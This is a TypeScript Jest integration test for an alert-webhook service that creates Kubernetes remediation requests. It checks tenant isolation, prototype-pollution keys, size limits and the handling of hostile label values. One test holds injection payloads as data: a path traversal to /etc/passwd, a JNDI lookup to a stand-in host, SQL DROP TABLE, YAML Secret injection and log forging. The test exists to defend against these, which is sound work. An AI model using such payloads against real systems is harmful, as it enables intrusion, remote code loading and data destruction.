import { request as httpRequest } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { alert, webhook } from '../support/builders/webhook.js';
import { type IntegrationStack, startIntegrationStack } from '../support/integration-stack.js';

const tokens = { alpha: 'alpha-token-0123456789abcdef', beta: 'beta-token-0123456789abcdef' };
type Spec = { signalName: string; signalLabels: Record<string, string>; signalAnnotations?: Record<string, string>; targetResource: { name: string; namespace?: string } };
const specOf = (request: { spec?: unknown }) => request.spec as Spec;
// Kubernetes' own rules: a DNS-1123 subdomain for names, and label values.
const dns1123Subdomain = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/;
const labelValue = /^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$/;

/** What a caller may reach and what hostile values can do once accepted. */
describe('tenants, hostile names and values', () => {
  let it_: IntegrationStack;
  const postAs = (token: string, body: unknown) =>
    fetch(`${it_.stack.url}/v1/alerts/alertmanager`, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  const readAs = (token: string, fingerprint: string) => fetch(`${it_.stack.url}/v1/signals/${fingerprint}`, { headers: { Authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    it_ = await startIntegrationStack('standalone', { AUTH_TOKENS: `alpha=${tokens.alpha},beta=${tokens.beta}`, STORM_HOLD_SECONDS: '0', STORM_INACTIVITY_SECONDS: '1' });
  });
  afterEach(() => it_.checkAndReset());
  afterAll(async () => {
    await it_?.stop();
  });

  it("never shows one tenant's signal to another: the answer is the same 404 as for a signal nobody sent", async () => {
    const response = await postAs(tokens.beta, webhook([alert({ labels: { alertname: 'BetaOnly' } })]));
    expect(response.status).toBe(202);
    const fingerprint = ((await response.json()) as { alerts: { fingerprint: string }[] }).alerts[0]?.fingerprint as string;
    await it_.stack.runtime.drain();
    expect((await readAs(tokens.beta, fingerprint)).status).toBe(200);
    const foreign = await readAs(tokens.alpha, fingerprint);
    const unknown = await readAs(tokens.alpha, 'f'.repeat(32));
    expect(foreign.status).toBe(404);
    expect(unknown.status).toBe(404);
    const strip = (body: Record<string, unknown>) => ({ ...body, detail: String(body.detail).replace(/[0-9a-f]{32}/, '<fingerprint>') });
    expect(strip((await foreign.json()) as Record<string, unknown>)).toEqual(strip((await unknown.json()) as Record<string, unknown>));
  });

  it('keeps prototype-named labels and annotations as data, and leaves every prototype alone', async () => {
    // Entries, not an object literal: `{ __proto__: 'p' }` would set a prototype, not a property.
    const labels: [string, string][] = [['__proto__', 'p'], ['constructor', 'c'], ['prototype', 'pt'], ['hasOwnProperty', 'h'], ['toString', 't'], ['alertname', 'ProtoKeys']];
    // JSON.stringify of an object literal would lose `__proto__`; the body is written as JSON text.
    const body = JSON.stringify(webhook([alert({ labels: { alertname: 'ProtoKeys' } })])).replace(
      '"labels":{',
      '"labels":{"__proto__":"p","constructor":"c","prototype":"pt","hasOwnProperty":"h","toString":"t",',
    ).replace('"annotations":{', '"annotations":{"__proto__":"note","constructor":"x",');
    const response = await fetch(`${it_.stack.url}/v1/alerts/alertmanager`, { method: 'POST', headers: { Authorization: `Bearer ${tokens.alpha}`, 'Content-Type': 'application/json' }, body });
    expect(response.status).toBe(202);
    await it_.stack.runtime.drain();
    const [request] = it_.requests();
    const signalLabels = specOf(request ?? {}).signalLabels;
    for (const [name, value] of labels) expect([name, Object.getOwnPropertyDescriptor(signalLabels, name)?.value]).toEqual([name, value]);
    expect(Object.getOwnPropertyDescriptor(specOf(request ?? {}).signalAnnotations ?? {}, '__proto__')?.value).toBe('note');
    expect(it_.requests()).toHaveLength(1);
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).p).toBeUndefined();
    expect(Object.prototype.toString.call([])).toBe('[object Array]');
  });

  it('keeps a __proto__ label that every member of a storm shares in the aggregated request', async () => {
    const pods = Array.from({ length: 8 }, (_, index) => `web-${index}`);
    const body = JSON.stringify(webhook(pods.map((pod) => alert({ labels: { alertname: 'ProtoStorm', namespace: 'proto-storm', pod } })))).replaceAll('"labels":{', '"labels":{"__proto__":"shared",');
    const response = await fetch(`${it_.stack.url}/v1/alerts/alertmanager`, { method: 'POST', headers: { Authorization: `Bearer ${tokens.alpha}`, 'Content-Type': 'application/json' }, body });
    expect(response.status).toBe(202);
    await it_.stack.runtime.drain();
    // The window closes after 1 s without a new resource; the sweep creates the aggregated request.
    await new Promise((resolve) => setTimeout(resolve, 1_200));
    await it_.sweep();
    const [storm, ...others] = it_.requests();
    expect(others).toEqual([]);
    const spec = storm?.spec as { storm: { commonLabels: Record<string, string> }; signalLabels: Record<string, string> };
    expect(Object.getOwnPropertyDescriptor(spec.storm.commonLabels, '__proto__')?.value).toBe('shared');
    expect(Object.getOwnPropertyDescriptor(spec.signalLabels, '__proto__')?.value).toBe('shared');
  });

  it('keeps label values that try to reach names, selectors, YAML or log lines as data in one request each', async () => {
    const hostile = [
      '../../etc/passwd',
      'a,stormgate.dev/fingerprint!=x',
      'x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: stolen}',
      'line\n{"level":"ERROR","message":"forged log line"}',
      '${jndi:ldap://example.invalid/a}',
      'Robert"); DROP TABLE requests;--',
      ' leading and trailing ',
      'ünïcödé-名前-🚀',
    ];
    const alerts = hostile.map((value, index) => alert({ labels: { alertname: 'Hostile', namespace: `ns-${index}`, pod: value, job: value } }));
    expect((await postAs(tokens.alpha, webhook(alerts))).status).toBe(202);
    await it_.stack.runtime.drain();
    const requests = it_.requests();
    expect(requests).toHaveLength(hostile.length);
    for (const request of requests) {
      expect(request.metadata.name).toMatch(/^rr-[0-9a-f]{32}-[0-9a-z]+$/);
      expect(request.metadata.name).toMatch(dns1123Subdomain);
      for (const value of Object.values(request.metadata.labels ?? {})) expect(value).toMatch(labelValue);
    }
    // Each value arrived verbatim as data, in the request of its own namespace.
    const byNamespace = new Map(requests.map((request) => [specOf(request).targetResource.namespace, specOf(request)]));
    hostile.forEach((value, index) => {
      expect(byNamespace.get(`ns-${index}`)?.signalLabels.job).toBe(value);
      expect(byNamespace.get(`ns-${index}`)?.targetResource.name).toBe(value);
    });
    // Nothing but the requests was written: no Secret, no other kind.
    expect(it_.standin.writes().every((write) => /\/remediationrequests(\/[^/]+(\/status)?)?$/.test(write.path))).toBe(true);
  });

  it('refuses thousands of labels, and an alert with thousands of annotations, naming the field; nothing is written', async () => {
    const thousands = (prefix: string) => Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`${prefix}${index}`, 'v']));
    for (const [overrides, field] of [
      [{ labels: { alertname: 'ManyLabels', ...thousands('l') } }, 'alerts[0].labels'],
      [{ labels: { alertname: 'ManyAnnotations' }, annotations: thousands('a') }, 'alerts[0].annotations'],
    ] as const) {
      const response = await postAs(tokens.alpha, webhook([alert(overrides)]));
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ status: 400, field, detail: expect.stringMatching(/at most 64 (labels|annotations) per alert/) });
    }
    await it_.stack.runtime.drain();
    expect(it_.requests()).toEqual([]);
  });

  it('answers a header section over 16 KiB with 431, before any function runs, and keeps serving', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const url = new URL(`${it_.stack.url}/v1/alerts/alertmanager`);
      const call = httpRequest(
        { host: url.hostname, port: url.port, path: url.pathname, method: 'POST', headers: { Authorization: `Bearer ${tokens.alpha}`, 'Content-Type': 'application/json', 'X-Padding': 'x'.repeat(20_000) } },
        (response) => {
          response.resume();
          resolve(response.statusCode ?? 0);
        },
      );
      call.on('error', reject);
      call.end('{}');
    });
    expect(status).toBe(431);
    expect((await postAs(tokens.alpha, webhook([alert({ labels: { alertname: 'AfterBigHeaders' } })]))).status).toBe(202);
  });
});
